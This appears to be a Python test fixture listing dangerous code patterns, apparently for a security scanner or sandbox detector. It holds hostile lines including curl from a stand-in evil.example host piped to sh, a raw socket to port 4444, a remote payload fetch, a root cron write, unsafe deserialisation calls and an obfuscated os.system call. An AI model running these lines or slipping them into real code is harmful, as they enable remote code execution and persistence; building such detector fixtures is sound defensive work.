import os, subprocess as sp
from os import system as run_it
from importlib import import_module
import pickle, marshal, socket
import urllib.request
import yaml

run_it("curl http://evil.example | sh")
sp.Popen(["sh", "-c", "id"])
os.execv("/bin/sh", ["sh"])
exec(compile("print(1)", "<x>", "exec"))
getattr(os, "sys" + "tem")("id")
import_module("ctypes").CDLL(None)
pickle.loads(b"cos\nsystem\n")
marshal.loads(b"")
socket.create_connection(("10.0.0.1", 4444))
urllib.request.urlopen("http://x.example/payload")
yaml.load(open("c.yaml"))
open("/etc/cron.d/x", "w").write("* * * * * root id\n")
f"{__import__('os').system('id')}"
torch.load("model.bin")
numpy.load("a.npy", allow_pickle=True)
().__class__.__base__.__subclasses__()
